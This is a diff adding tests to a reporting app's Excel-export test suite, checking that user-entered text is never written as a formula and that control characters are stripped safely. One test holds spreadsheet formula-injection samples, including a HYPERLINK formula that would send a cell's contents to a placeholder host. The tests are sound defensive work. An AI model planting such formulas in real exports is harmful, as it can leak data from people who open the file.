@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from followup.report import PdfUnavailable, build_report, render_pdf
-from tests.factories import CommitmentFactory, LocalProblemFactory
+from tests.factories import ActivityFactory, CommitmentFactory, LocalProblemFactory
 
 from .conftest import LABELS, ZOO, weasyprint_or_skip
 
@@ -230,6 +230,45 @@ class TestExcel:
             D(2025, 10, 1),
         ]
         assert all(isinstance(r[4], int) for r in rows)
+
+    def test_user_text_is_text_never_a_formula(self, get, zoo, promise):
+        hostile = '=HYPERLINK("https://example.org/?"&A1,"Klicka")'
+        ActivityFactory(
+            commitment=zoo["met"], occurred_on=D(2025, 6, 1), description=hostile,
+            place="@SUM(1+1)", kind="+kontroll",
+        )  # fmt: skip
+        CommitmentFactory(
+            focus_area=zoo["met"].focus_area, key="minus", text="-5 grader: halkbekämpning.",
+            responsible=[promise.police_area],
+        )  # fmt: skip
+        workbook = load_workbook(io.BytesIO(get("report_xlsx").content))
+        (row,) = [r for r in workbook["Aktiviteter"].iter_rows(min_row=2) if r[6].value == hostile]
+        assert [(c.value, c.data_type) for c in row[5:8]] == [
+            ("+kontroll", "s"), (hostile, "s"), ("@SUM(1+1)", "s"),
+        ]  # fmt: skip
+        assert all(c.quotePrefix for c in row[5:8])  # stays text when the cell is edited
+        summary = {r[3].value: r for r in workbook["Översikt"].iter_rows(min_row=2)}
+        assert (summary["minus"][4].value, summary["minus"][4].data_type) == (
+            "-5 grader: halkbekämpning.", "s",
+        )  # fmt: skip
+        assert not any(
+            cell.data_type == "f" for sheet in workbook for row in sheet.iter_rows()
+            for cell in row
+        )  # fmt: skip
+
+    def test_a_control_character_in_a_text_does_not_break_the_workbook(self, get, zoo):
+        ActivityFactory(
+            commitment=zoo["met"], occurred_on=D(2025, 6, 1),
+            description="Möte\x01 med skolan\x1b\x0c.\nUppföljning\tklar.", place="Skolan\x7f",
+        )  # fmt: skip
+        response = get("report_xlsx")
+        assert response.status_code == 200
+        rows = load_workbook(io.BytesIO(response.content))["Aktiviteter"].iter_rows(
+            min_row=2, values_only=True
+        )
+        descriptions = {r[6]: r[7] for r in rows}
+        # What XML cannot hold is left out; newline, tab and DEL stay.
+        assert descriptions["Möte med skolan.\nUppföljning\tklar."] == "Skolan\x7f"
 
 
 def test_query_budget_with_50_commitments_and_5000_activities(
